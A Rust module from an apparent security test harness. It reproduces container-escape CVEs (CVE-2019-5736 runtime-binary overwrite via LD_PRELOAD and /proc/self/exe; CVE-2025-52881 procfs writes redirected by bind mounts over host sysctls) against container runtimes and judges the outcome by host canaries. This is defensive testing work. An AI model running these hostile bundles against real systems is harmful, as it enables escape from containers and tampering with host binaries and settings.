//! The attacks, one function per CVE class. Each builds its hostile bundle for the runtime
//! `rt`, runs it as a container manager would, and judges by canaries outside the container.

use std::path::Path;

use serde_json::{Value, json};

use crate::common::{Env, text};
use crate::harness::*;

/// Several variants of one class: escaped if any escaped, else refused if all were refused.
pub fn combine(parts: Vec<(&str, Verdict)>) -> Verdict {
    let detail = parts
        .iter()
        .map(|(n, v)| format!("{n}: {} ({})", v.word(), v.detail()))
        .collect::<Vec<_>>()
        .join("; ");
    if parts.iter().any(|(_, v)| matches!(v, Verdict::Escaped(_))) {
        Verdict::Escaped(detail)
    } else if parts.iter().all(|(_, v)| matches!(v, Verdict::Skipped(_))) {
        Verdict::Skipped(detail)
    } else if parts
        .iter()
        .all(|(_, v)| matches!(v, Verdict::Refused(_) | Verdict::Skipped(_)))
    {
        Verdict::Refused(detail)
    } else {
        Verdict::Contained(detail)
    }
}

// ---------------------------------------------------------------------------------------------
// CVE-2019-5736: the runtime's own binary, reached from inside the container through
// /proc/self/exe and overwritten on the host. Here the image holds a script whose interpreter is
// /proc/self/exe, and LD_PRELOAD (an image's ENV) loads a library into the runtime binary as it
// starts in the container; the library keeps an O_PATH handle and a detached shell appends to
// the binary through it once the runtime is gone. runc 1.0-rc6 and earlier, crun, LXC.
// ---------------------------------------------------------------------------------------------

fn exec_5736(rt: &Rt, env: &Env, name: &str, privileged: bool, terminal: bool) -> Verdict {
    let b = bundle(env, rt, name, &["sleep", "30"], |c| {
        if privileged {
            let all: Vec<Value> = host_capabilities().iter().map(|c| json!(c)).collect();
            for set in ["bounding", "effective", "permitted"] {
                c["process"]["capabilities"][set] = json!(all);
            }
        }
    });
    plant_5736(&b, &rt.bin);
    let id = format!("{name}-{}", std::process::id());
    if let Err(e) = rt.create_start(&id, &b) {
        return Verdict::Refused(e);
    }
    let before = rt.binary_hash();
    let mut args = vec!["exec", "-e", "LD_PRELOAD=/evil.so"];
    let sock = env.dir.path().join(format!("{}-console.sock", rt.name));
    // Keeps the master open a while: a hang-up would end the process early.
    let receiver = terminal.then(|| console_receiver(&sock));
    if terminal {
        args.extend(["-t", "--console-socket", path_str(&sock)]);
    }
    args.extend([id.as_str(), "/evil-script"]);
    let o = rt.cmd(&args);
    let v = judge_5736(rt, &b, &before);
    rt.delete(&id);
    if let Some(r) = receiver {
        // If the runtime never connected, a connection of ours lets the receiver go.
        let _ = std::os::unix::net::UnixStream::connect(&sock);
        let _ = r.join();
    }
    match v {
        Verdict::Contained(d) if !o.status.success() && !d.contains("grabbed") => {
            Verdict::Refused(format!(
                "the script ended with {:?} without the runtime's binary running in the \
                 container {}",
                o.status.code(),
                text(&o).trim()
            ))
        }
        Verdict::Contained(d) if !d.contains("grabbed") => {
            Verdict::Contained(format!("{d}; exec said: {}", text(&o).trim()))
        }
        v => v,
    }
}

/// `exec` of a script whose interpreter is /proc/self/exe.
pub fn cve_2019_5736_exec_by_shebang(rt: &Rt, env: &Env) -> Verdict {
    exec_5736(rt, env, "x5736", false, false)
}

/// The same with `exec -t` (the pty path).
pub fn cve_2019_5736_exec_with_a_terminal(rt: &Rt, env: &Env) -> Verdict {
    exec_5736(rt, env, "t5736", false, true)
}

/// The same into a container holding every capability (CAP_SYS_PTRACE included).
pub fn cve_2019_5736_privileged(rt: &Rt, env: &Env) -> Verdict {
    exec_5736(rt, env, "p5736", true, false)
}

/// The container's own process is the script: the runtime's init execs the runtime binary.
pub fn cve_2019_5736_init_by_shebang(rt: &Rt, env: &Env) -> Verdict {
    let b = bundle(env, rt, "i5736", &["/evil-script"], |c| {
        let env = c["process"]["env"].as_array_mut().expect("env");
        env.push(json!("LD_PRELOAD=/evil.so"));
        env.push(json!("EVIL_BECOME=sleep 5"));
    });
    plant_5736(&b, &rt.bin);
    let id = format!("i5736-{}", std::process::id());
    let before = rt.binary_hash();
    if let Err(e) = rt.create_start(&id, &b) {
        let v = judge_5736(rt, &b, &before);
        return match v {
            Verdict::Escaped(_) => v,
            _ => Verdict::Refused(e),
        };
    }
    let v = judge_5736(rt, &b, &before);
    rt.delete(&id);
    v
}

// ---------------------------------------------------------------------------------------------
// CVE-2025-52881 (and CVE-2019-16884 before it): a write the runtime makes to procfs on the
// container's behalf, redirected by a mount the config or image placed over the procfs file.
// Here a bind mount of a host file (or host sysctl) over the file the runtime writes.
// ---------------------------------------------------------------------------------------------

fn run_to_end(rt: &Rt, id: &str, b: &Path) -> Result<(), String> {
    let o = rt.cmd(&["run", "--bundle", path_str(b), id]);
    rt.delete(id);
    if o.status.success() {
        Ok(())
    } else {
        Err(text(&o).trim().to_owned())
    }
}

/// Host `vm.swappiness` bound over the sysctl file the config sets (`kernel.domainname`, a uts
/// one the container may set), over the file `domainname` goes through, and a host file bound
/// over /proc/self/oom_score_adj.
pub fn cve_2025_52881_sysctl_through_a_bind_mount(rt: &Rt, env: &Env) -> Verdict {
    let swappiness = HostSysctl::new("vm.swappiness");
    let value = if swappiness.before.trim() == "37" {
        "38"
    } else {
        "37"
    };
    let bind = |c: &mut Value, src: &str, dest: &str| {
        mounts(c).push(json!({
            "destination": dest, "type": "bind", "source": src, "options": ["bind"]
        }));
    };
    let mut parts = Vec::new();
    let b = bundle(env, rt, "sysctl", &["true"], |c| {
        bind(c, "/proc/sys/vm/swappiness", "/proc/sys/kernel/domainname");
        c["linux"]["sysctl"] = json!({ "kernel.domainname": value });
    });
    let r = run_to_end(rt, &format!("sysctl-{}", std::process::id()), &b);
    parts.push((
        "sysctl",
        match (swappiness.changed(), r) {
            (Some(d), _) => Verdict::Escaped(d),
            (None, Err(e)) => Verdict::Refused(e),
            (None, Ok(())) => Verdict::Contained("host vm.swappiness unchanged".into()),
        },
    ));
    let b = bundle(env, rt, "domain", &["true"], |c| {
        bind(c, "/proc/sys/vm/swappiness", "/proc/sys/kernel/domainname");
        c["domainname"] = json!(value);
    });
    let r = run_to_end(rt, &format!("domain-{}", std::process::id()), &b);
    parts.push((
        "domainname",
        match (swappiness.changed(), r) {
            (Some(d), _) => Verdict::Escaped(d),
            (None, Err(e)) => Verdict::Refused(e),
            (None, Ok(())) => Verdict::Contained("host vm.swappiness unchanged".into()),
        },
    ));
    let canary = env.dir.path().join(format!("{}-oom-canary", rt.name));
    std::fs::write(&canary, "canary\n").expect("canary");
    let b = bundle(env, rt, "oom", &["true"], |c| {
        bind(c, path_str(&canary), "/proc/self/oom_score_adj");
        c["process"]["oomScoreAdj"] = json!(-37);
    });
    let r = run_to_end(rt, &format!("oom-{}", std::process::id()), &b);
    let now = std::fs::read_to_string(&canary).unwrap_or_default();
    parts.push((
        "oom_score_adj",
        match (now != "canary\n", r) {
            (true, _) => {
                Verdict::Escaped(format!("host file {} now holds {now:?}", canary.display()))
            }
            (false, Err(e)) => Verdict::Refused(e),
            (false, Ok(())) => Verdict::Contained("host file unchanged".into()),
        },
    ));
    combine(parts)
}
